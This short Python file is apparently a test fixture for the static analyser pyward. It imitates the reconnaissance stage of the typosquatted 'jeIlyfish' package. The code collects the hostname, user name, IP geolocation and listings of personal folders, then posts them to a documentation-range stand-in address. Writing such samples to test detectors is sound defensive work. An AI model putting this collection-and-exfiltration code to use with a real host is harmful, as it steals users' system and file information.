# INERT test sample for pyward's static analysis: never run it. Modelled on jeIlyfish stage-2 style reconnaissance and geolocation.
# Documented: https://github.com/dateutil/dateutil/issues/984
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, socket, getpass, requests
info = {'host': socket.gethostname(), 'user': getpass.getuser()}
info['geo'] = requests.get('https://ipinfo.io/json').json()
for d in ('~', '~/Documents', '~/Downloads', '~/PycharmProjects'):
    info[d] = os.listdir(os.path.expanduser(d))
requests.post('http://192.0.2.61:8080/r', json=info)
